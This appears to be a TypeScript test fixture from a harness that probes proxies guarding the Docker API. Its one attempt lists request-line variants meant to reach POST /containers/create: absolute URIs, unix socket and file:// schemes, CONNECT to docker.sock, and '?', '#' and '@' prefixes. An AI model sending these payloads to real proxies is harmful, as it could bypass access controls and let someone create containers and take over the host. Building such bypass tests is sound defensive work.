import { type Attempt, lines, v } from './book';

export const attempt: Attempt = {
  title: 'write the whole address into the request line',
  source: 'proxies and servers that disagree on what the host and path are',
  try: (world) =>
    lines(world, [
      `POST http://${world.address}${v}/containers/create`, `POST https://${world.address}${v}/containers/create`,
        `POST http://docker${v}/containers/create`, `POST unix:///var/run/docker.sock${v}/containers/create`,
        `POST //${world.address}${v}/containers/create`, `POST file://${v}/containers/create`, `CONNECT ${world.address}`,
        'CONNECT /var/run/docker.sock', 'OPTIONS *', 'POST *',
      `POST containers/create`, `POST ?${v}/containers/create`, `POST #${v}/containers/create`, `POST http:${v}/containers/create`,
        `POST @${v}/containers/create`,
    ]),
};
